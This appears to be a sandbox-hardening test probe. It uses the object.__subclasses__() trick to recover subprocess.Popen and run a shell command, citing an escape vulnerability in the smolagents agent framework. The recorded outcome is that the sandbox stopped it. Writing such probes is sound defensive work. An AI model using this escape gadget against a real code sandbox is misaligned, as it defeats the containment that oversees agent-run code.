"""Looks for a class that starts processes.

tries: find subprocess.Popen, or import it by a class that has it in its scope
layers: seccomp, landlock, namespaces
observed: stopped
source: smolagents CVE-2025-9959; published for Jinja2, RestrictedPython and others alike
"""

import subprocess  # noqa: F401 - loaded, so that its classes are there

popen = next(cls for cls in object.__subclasses__() if cls.__name__ == "Popen")


def system(command):
    try:
        return popen(["/bin/sh", "-c", command]).wait() << 8
    except OSError:
        return -256


status = system("exit 7") >> 8
result = "escaped: a shell ran" if status == 7 else f"stopped: status {status}"
